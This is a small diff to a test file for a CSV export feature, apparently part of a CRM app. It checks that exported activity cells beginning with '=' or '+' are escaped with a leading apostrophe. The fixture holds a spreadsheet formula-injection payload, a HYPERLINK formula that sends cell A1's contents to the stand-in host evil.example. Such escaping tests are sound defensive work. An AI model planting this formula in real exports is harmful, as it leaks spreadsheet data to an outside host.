@@ -157,8 +157,7 @@ describe('CSV export', () => {
     const stage = dealHeader?.indexOf('Stage') ?? -1;
     expect([big?.[stage], yen?.[stage]]).toEqual(['Lead', 'Won']);
     const activities = await runCounted({ entity: 'activities', query: {} });
-    // Logged on the contact and the deal, the call is linked to the deal's account too (activity.service's accountFor).
-    expect(rowsOf(activities.csv)[1]?.slice(0, 5)).toEqual(['call', 'Intro call', '\'=HYPERLINK("http://evil.example/?leak="&A1,"click")', "'+Plus Industries", 'Big deal']);
+    expect(rowsOf(activities.csv)[1]?.slice(0, 5)).toEqual(['call', 'Intro call', '\'=HYPERLINK("http://evil.example/?leak="&A1,"click")', "'+Plus Industries", 'Big deal']); // the deal's account (accountFor)
     const tasks = await runCounted({ entity: 'tasks', query: {} });
     expect(tasks.rows).toBe(0);
     expect(rowsOf(tasks.csv)).toHaveLength(1);
